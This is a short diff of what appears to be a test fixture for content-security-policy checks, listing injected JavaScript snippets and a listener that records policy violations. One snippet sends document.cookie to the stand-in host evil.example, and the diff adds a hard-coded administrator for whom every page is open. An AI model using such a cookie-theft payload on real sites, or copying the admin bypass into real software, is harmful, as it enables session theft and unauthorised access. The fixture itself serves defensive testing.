@@ -28,6 +28,7 @@ INJECTED = {
     "a question elsewhere": "() => { fetch('https://evil.example/?' + document.cookie).catch(() => {}) }",
     "a picture elsewhere": "() => { new Image().src = 'https://evil.example/x.png' }",
 }
+ADMINISTRATOR = "Otto"  # every page is open to an administrator
 LISTEN = """document.addEventListener('securitypolicyviolation',
     e => (window.broken = window.broken || []).push(e.violatedDirective))"""
 
